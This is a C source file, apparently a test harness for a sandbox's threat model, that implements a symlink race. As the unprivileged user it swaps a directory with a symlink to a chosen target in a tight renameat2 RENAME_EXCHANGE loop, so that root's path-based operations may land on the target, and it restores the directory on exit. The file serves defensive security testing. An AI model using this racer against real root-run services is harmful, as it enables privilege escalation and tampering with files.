// Attack 1's racer (docs/threat-model.md): as the sandbox user, swaps DIR with a symlink to TARGET by
// renameat2(RENAME_EXCHANGE) in a tight loop, so root's by-path work on DIR may land on
// TARGET. On SIGTERM/SIGINT it stops with DIR back in place and exits 0.
//   swap-loop DIR LINK TARGET
// Compiled static on the host (gcc -static) and mounted into a container of the test image.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_signal(int sig) {
  (void)sig;
  stop = 1;
}

static int exchange(const char *a, const char *b) {
  return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: swap-loop DIR LINK TARGET\n");
    return 2;
  }
  const char *dir = argv[1], *link = argv[2], *target = argv[3];
  signal(SIGTERM, on_signal);
  signal(SIGINT, on_signal);
  unlink(link);
  if (symlink(target, link) != 0) {
    perror("symlink");
    return 1;
  }
  unsigned long swaps = 0, failures = 0;
  while (!stop) {
    // An immutable DIR refuses the exchange (EPERM): keep trying, boot unlocks it.
    if (exchange(dir, link) == 0) {
      swaps++;
      if (exchange(dir, link) == 0) swaps++;
      else failures++;
    } else {
      failures++;
    }
  }
  // An odd count leaves DIR swapped out: put it back.
  while (swaps % 2 == 1) {
    if (exchange(dir, link) == 0) swaps++;
    else usleep(1000);
  }
  unlink(link);
  printf("swap-loop: %lu swaps, %lu refused\n", swaps, failures);
  return 0;
}
